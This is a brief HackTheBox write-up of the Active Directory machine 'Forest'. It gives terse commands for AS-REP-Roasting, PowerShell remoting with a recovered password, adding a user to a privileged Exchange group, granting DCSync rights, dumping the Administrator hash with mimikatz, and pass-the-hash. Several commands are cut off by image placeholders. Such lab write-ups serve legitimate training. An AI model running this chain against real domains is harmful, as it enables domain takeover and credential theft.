Forest @ HackTheBox

Forest @ HackTheBox

Forest is a 20-point active directory machine on HackTheBox that involves user enumeration, AS-REP-Roasting and abusing Active Directory ACLs to become admin.


To route your windows vm through kali run the following commands on kali:

sudo sysctl -w net.ipv4.ip_forward=1
sudo /sbin/iptables -t nat -A POSTROUTING -o tun0 -j MASQUERADE
sudo /sbin/iptables -A FORWARD -i tun0 -o eth1 -m state --state RELATED,ESTABLISHED -j ACCEPT
sudo /sbin/iptables -A FORWARD -i eth1 -o tun0 -j ACCEPT

On Windows set the kali vm as default gateway & the target box as dns server. Make sure both vms share the same virtual network. Windows can now use the same vpn connection and you can join the windows vm to the domain.

AS-REP-Roast: htb.local/svc-alfresco -dc-ip


Set-Item WSMan:\localhost\Client\TrustedHosts -Value '*'
$pass=ConvertTo-SecureString -AsPlainText 's3rvice' -Force
$cred = New-Object -TypeName System.Management.Automation.PSCredential -ArgumentList$user,$pass
New-PSSession -URI http://forest.htb:5985/wsman -Credential $cred
Enter-PSSession <num>


sharphound.exe -c all

Add user & put into group (requires powerview):

net user xct <pw> /add /domain
add-domaingroupmember -identity"exchange windows permissions" -members "xct"

Add DCSync rights (requires powerview):

add-domainobjectacl -credential $cred -targetidentity"DC=htb,DC=local" -Rights DCSync

DCSync (mimikatz):lsadump::dcsync /domain:htb.local /user:Administrator

Pass-The-Hash: -hashes :<hash>administrator@

Share this post